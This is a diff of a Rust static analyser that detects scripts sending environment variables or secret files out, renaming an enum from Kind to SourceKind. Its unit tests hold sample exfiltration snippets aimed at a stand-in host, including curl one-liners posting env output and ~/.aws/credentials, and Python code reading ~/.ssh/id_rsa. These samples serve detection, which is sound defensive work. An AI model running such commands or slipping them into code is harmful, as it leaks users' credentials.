@@ -20,7 +20,7 @@ use wording::Wording;
 /// Private data on its way out.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Flow {
-    pub kind: Kind,
+    pub kind: SourceKind,
     pub what: Wording,
     /// Where it is sent.
     pub path: Utf8PathBuf,
@@ -30,8 +30,9 @@ pub struct Flow {
     pub encoded: bool,
 }
 
+/// What is taken.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Kind {
+pub enum SourceKind {
     Environment,
     Files,
 }
@@ -214,7 +215,7 @@ const ENCODERS: [&str; 8] = ["b64encode", "base64", "btoa(", "hexlify", ".hex()"
 
 #[derive(Debug, Clone)]
 struct Taint {
-    kind: Kind,
+    kind: SourceKind,
     what: Wording,
     read: String,
     encoded: bool,
@@ -456,7 +457,7 @@ impl<'a> Walk<'a> {
             let is_variable = |taint: &&Taint| {
                 (word.owner.is_none() || matches!(word.owner, Some("self" | "this")))
                     && !is_argument
-                    && (!is_one || taint.kind == Kind::Files)
+                    && (!is_one || taint.kind == SourceKind::Files)
             };
             let is_known_owner = word.owner.is_none_or(|owner| self.unit.imports.contains(owner));
             let is_call = word.rest.starts_with('(') && is_known_owner;
@@ -511,7 +512,10 @@ fn source(statement: &str) -> Option<(usize, Taint)> {
     }
     let taint = |kind, what, read: &str| Taint { kind, what, read: read.to_owned(), encoded: false, local: false };
     if let Some((at, read)) = whole_environment(statement) {
-        return Some((at, taint(Kind::Environment, Wording::new("all environment variables", "全部环境变量"), read)));
+        return Some((
+            at,
+            taint(SourceKind::Environment, Wording::new("all environment variables", "全部环境变量"), read),
+        ));
     }
     if !READS.iter().any(|read| statement.contains(read)) {
         return None;
@@ -519,12 +523,12 @@ fn source(statement: &str) -> Option<(usize, Taint)> {
     let is_public = |rest: &str| rest.split(['"', '\'', ' ', ')']).next().is_some_and(|name| name.ends_with(".pub"));
     let found = FILES.iter().find(|(mark, _)| statement.split_once(mark).is_some_and(|(_, rest)| !is_public(rest)));
     if let Some((mark, what)) = found {
-        return Some((statement.find(mark)?, taint(Kind::Files, *what, mark)));
+        return Some((statement.find(mark)?, taint(SourceKind::Files, *what, mark)));
     }
     let found = ENV_FILE.iter().find(|mark| statement.contains(**mark))?;
     Some((
         statement.find(found)? + found.len(),
-        taint(Kind::Files, Wording::new("the secrets in `.env`", "`.env` 中的机密"), found),
+        taint(SourceKind::Files, Wording::new("the secrets in `.env`", "`.env` 中的机密"), found),
     ))
 }
 
@@ -724,7 +728,7 @@ fn is_name(word: &str) -> bool {
 mod tests {
     use super::*;
 
-    fn flows(texts: &[(&str, &str)]) -> Vec<(Kind, String)> {
+    fn flows(texts: &[(&str, &str)]) -> Vec<(SourceKind, String)> {
         let unit = |(module, text): &(&str, &str)| Unit::new("run.py".into(), 0, (*text).into(), (*module).into());
         let units: Vec<Unit> = texts.iter().map(unit).collect();
         let (mut known, mut found) = (Functions::default(), Vec::new());
@@ -773,50 +777,50 @@ mod tests {
 
     #[test]
     fn follows_variables_functions_files_and_imports() {
-        let cases: &[(&[(&str, &str)], Kind)] = &[
+        let cases: &[(&[(&str, &str)], SourceKind)] = &[
             (
                 &[("a", "import os, requests\nrequests.post('https://x.io', json=dict(os.environ))\n")],
-                Kind::Environment,
+                SourceKind::Environment,
             ),
             (
                 &[(
                     "a",
                     "payload = {k: v for k, v in os.environ.items()}\nbody = json.dumps(payload)\nrequests.post(\n    URL,\n    data=body,\n)\n",
                 )],
-                Kind::Environment,
+                SourceKind::Environment,
             ),
             (
                 &[(
                     "a",
                     "def gather():\n    return dict(os.environ)\n\ndata = gather()\nurlopen(Request(URL, data=json.dumps(data).encode()))\n",
                 )],
-                Kind::Environment,
+                SourceKind::Environment,
             ),
             (
                 &[("a", "def send(payload):\n    requests.post(URL, json=payload)\n\nsend(dict(os.environ))\n")],
-                Kind::Environment,
+                SourceKind::Environment,
             ),
             (
                 &[
                     ("collect", "def gather():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"),
                     ("b", "from collect import gather\nrequests.post(URL, data=gather())\n"),
                 ],
-                Kind::Files,
+                SourceKind::Files,
             ),
             (
                 &[("a", "fetch('https://x.io', {method: 'POST', body: JSON.stringify(process.env)})\n")],
-                Kind::Environment,
+                SourceKind::Environment,
             ),
-            (&[("a", "curl -s -X POST -d \"$(env)\" https://x.io\n")], Kind::Environment),
-            (&[("a", "env | base64 | curl -d @- https://x.io\n")], Kind::Environment),
-            (&[("a", "env > /tmp/x\ncurl -T /tmp/x https://x.io\n")], Kind::Environment),
-            (&[("a", "curl -F file=@$HOME/.aws/credentials https://x.io\n")], Kind::Files),
+            (&[("a", "curl -s -X POST -d \"$(env)\" https://x.io\n")], SourceKind::Environment),
+            (&[("a", "env | base64 | curl -d @- https://x.io\n")], SourceKind::Environment),
+            (&[("a", "env > /tmp/x\ncurl -T /tmp/x https://x.io\n")], SourceKind::Environment),
+            (&[("a", "curl -F file=@$HOME/.aws/credentials https://x.io\n")], SourceKind::Files),
             (
                 &[(
                     "a",
                     "with open(os.path.expanduser('~/.netrc')) as f:\n    text = f.read()\n    requests.post(URL, data=text)\n",
                 )],
-                Kind::Files,
+                SourceKind::Files,
             ),
         ];
         for (texts, kind) in cases {
